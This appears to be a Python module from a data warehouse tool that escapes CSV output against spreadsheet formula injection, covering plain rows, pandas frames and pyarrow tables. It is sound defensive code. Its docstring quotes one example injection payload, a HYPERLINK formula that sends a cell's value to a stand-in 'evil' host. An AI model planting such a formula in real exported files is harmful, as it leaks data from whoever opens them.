"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
a carriage return) as a formula: a lead's field, a rejection reason or a column name such as
``=HYPERLINK("http://evil/?"&A1, "click")`` would run when someone opens the file. Following
OWASP's guidance, every such text value gets a leading single quote (``'=HYPERLINK(...)``), which
spreadsheets show as text. Only text is escaped: numbers stay numbers (a negative amount in a
numeric column is written as ``-12.5``, not ``'-12.5``), dates and timestamps stay as they are.

Used by every CSV the warehouse writes: exports (``ingest.serving.exports``), ``leadwh sql
--format csv`` and the dashboards' CSV downloads.
"""

from __future__ import annotations

from typing import Any

#: The first characters that make a spreadsheet cell a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_PATTERN = r"^[=+\-@\t\r]"


def safe_text(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run; anything else
    (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_rows(rows: list[tuple]) -> list[tuple]:
    """Rows (tuples of Python values) with their text values escaped."""
    return [tuple(safe_text(v) for v in row) for row in rows]


def safe_frame(frame):
    """A pandas DataFrame with its text values and column names escaped (a copy)."""
    import pandas as pd

    out = frame.rename(columns=safe_text)
    for column in out.columns:
        kind = out[column].dtype
        if (
            pd.api.types.is_object_dtype(kind)
            or pd.api.types.is_string_dtype(kind)
            or isinstance(kind, pd.CategoricalDtype)
        ):
            out[column] = out[column].astype(object).map(safe_text)
    return out


def safe_arrow(table):
    """A pyarrow Table with its text values and every column name escaped; columns that CSV
    writes as text though they are not (a union, a blob, a list) become text first."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in _as_text_unless_plain(table).columns:
        kind = column.type
        if pa.types.is_dictionary(kind) and pa.types.is_string(kind.value_type):
            column = column.cast(pa.string())
            kind = column.type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.fill_null(pc.match_substring_regex(column, _FORMULA_PATTERN), False)
            quoted = pc.binary_join_element_wise(pa.scalar("'", kind), column, pa.scalar("", kind))
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    names = [safe_text(name) for name in table.column_names]
    return pa.Table.from_arrays(columns, names=names)


def _as_text_unless_plain(table):
    """The table with every column that is not text, a number, a boolean or a time cast to text
    by DuckDB (pyarrow casts no union to text), in a private in-memory database."""
    import duckdb
    import pyarrow as pa

    def plain(kind) -> bool:
        return any(
            check(kind)
            for check in (pa.types.is_string, pa.types.is_large_string, pa.types.is_integer,
                          pa.types.is_floating, pa.types.is_decimal, pa.types.is_boolean,
                          pa.types.is_temporal, pa.types.is_null, pa.types.is_dictionary)
        )  # fmt: skip

    if all(plain(field.type) for field in table.schema):
        return table
    names = ['"' + name.replace('"', '""') + '"' for name in table.column_names]
    select = ", ".join(
        name if plain(field.type) else f"cast({name} as varchar) as {name}"
        for name, field in zip(names, table.schema, strict=True)
    )
    with duckdb.connect() as con:
        con.register("fetched", table)
        return con.sql(f"select {select} from fetched").to_arrow_table()
